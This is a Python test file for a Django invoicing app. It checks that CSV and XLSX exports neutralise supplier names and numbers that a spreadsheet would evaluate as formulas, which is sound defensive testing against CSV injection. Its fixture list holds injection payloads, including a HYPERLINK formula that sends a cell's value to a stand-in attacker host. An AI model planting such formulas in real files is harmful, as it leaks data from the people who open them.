"""Supplier data in the exports stays text: no spreadsheet ever evaluates it as a formula.

A supplier chooses its own name (and its numbering) in the XML it sends; the accountant opens
the export in Excel or LibreOffice. Following OWASP's CSV-injection guidance, a text cell that
starts with a formula character is written as a text cell with the "quote prefix" style in XLSX,
and with a leading single quote in a double-quoted CSV field. Numbers and dates keep their types.
"""

import csv
import datetime
import io
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from invoices.exports import export_headers
from tests.factories.documents import ReceivedDocumentFactory

CSV_URL = reverse("admin:invoices_receiveddocument_export_csv")
XLSX_URL = reverse("admin:invoices_receiveddocument_export_xlsx")

#: Supplier names a spreadsheet would take for formulas, as their XML could carry them.
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&D2,"Ver")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－2+3",
    "＠SUM(A1)",
    " =1+1",
]


@pytest.fixture
def hostile(org_a):
    """One document per hostile supplier name, numbered in the same order."""
    return [
        ReceivedDocumentFactory(
            organization=org_a,
            number=f"FE{index:02}",
            supplier_name=name,
            issue_date=datetime.date(2026, 3, 2) - datetime.timedelta(days=index),
        )
        for index, name in enumerate(HOSTILE_NAMES)
    ]


@pytest.fixture
def credit(org_a):
    """Hostile text in the number and the referenced number, next to a negative amount."""
    return ReceivedDocumentFactory(
        organization=org_a,
        number="@FE99",
        referenced_number="=1+2",
        supplier_name="#REF!",
        credit_note=True,
        issue_date=datetime.date(2026, 4, 1),
        payable_amount=Decimal("-1500.50"),
        tax_inclusive_amount=Decimal("-1500.50"),
    )


def csv_text(client):
    response = client.get(CSV_URL)
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return text[1:]


def csv_rows(text):
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == export_headers()
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def xlsx_content(client):
    response = client.get(XLSX_URL)
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def xlsx_cells(content):
    """Each data row as {header: cell}, read back with the styles (not in read-only mode)."""
    sheet = load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows())
    headers = [cell.value for cell in rows[0]]
    assert headers == export_headers()
    return [dict(zip(headers, row, strict=True)) for row in rows[1:]]


def test_csv_prefixes_every_formula_led_supplier_name_with_a_quote(client, bob, hostile):
    client.force_login(bob)

    rows = csv_rows(csv_text(client))

    names = {row["Número"]: row["Proveedor"] for row in rows}
    for document in hostile:
        assert names[document.number] == "'" + document.supplier_name


def test_csv_neutralises_every_text_column_but_keeps_negative_amounts_numbers(client, bob, credit):
    client.force_login(bob)

    (row,) = csv_rows(csv_text(client))

    assert row["Número"] == "'@FE99"
    assert row["Documento referenciado"] == "'=1+2"
    assert row["Proveedor"] == "#REF!"
    assert row["Total a pagar"] == "-1500.50"
    assert row["Total con impuestos"] == "-1500.50"
    assert row["Fecha de emisión"] == "2026-04-01"


def test_csv_encloses_every_field_in_double_quotes(client, bob, org_a):
    """A `;` inside a name cannot start a new cell where Excel splits on `;` (es-CO)."""
    ReceivedDocumentFactory(organization=org_a, supplier_name="Andina;=1+1")
    client.force_login(bob)

    text = csv_text(client)

    assert '"Andina;=1+1"' in text
    for line in text.splitlines():
        fields = next(csv.reader([line]))
        assert line == ",".join('"' + field.replace('"', '""') + '"' for field in fields)


def test_xlsx_writes_every_formula_led_supplier_name_as_text(client, alice, hostile):
    client.force_login(alice)

    content = xlsx_content(client)

    cells = {row["Número"].value: row["Proveedor"] for row in xlsx_cells(content)}
    for document in hostile:
        cell = cells[document.number]
        assert cell.value == document.supplier_name
        assert cell.data_type == "s"
        assert cell.quotePrefix
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in archive.read(name)
            assert b"<f " not in archive.read(name)


def test_xlsx_keeps_numbers_and_dates_typed_next_to_neutralised_text(client, alice, credit):
    client.force_login(alice)

    (row,) = xlsx_cells(xlsx_content(client))

    for header, value in [
        ("Número", "@FE99"),
        ("Documento referenciado", "=1+2"),
        ("Proveedor", "#REF!"),
    ]:
        assert (row[header].value, row[header].data_type) == (value, "s"), header
    assert (row["Total a pagar"].value, row["Total a pagar"].data_type) == (-1500.5, "n")
    assert not row["Total a pagar"].quotePrefix
    assert row["Fecha de emisión"].value == datetime.datetime(2026, 4, 1)
    assert row["Fecha de emisión"].is_date
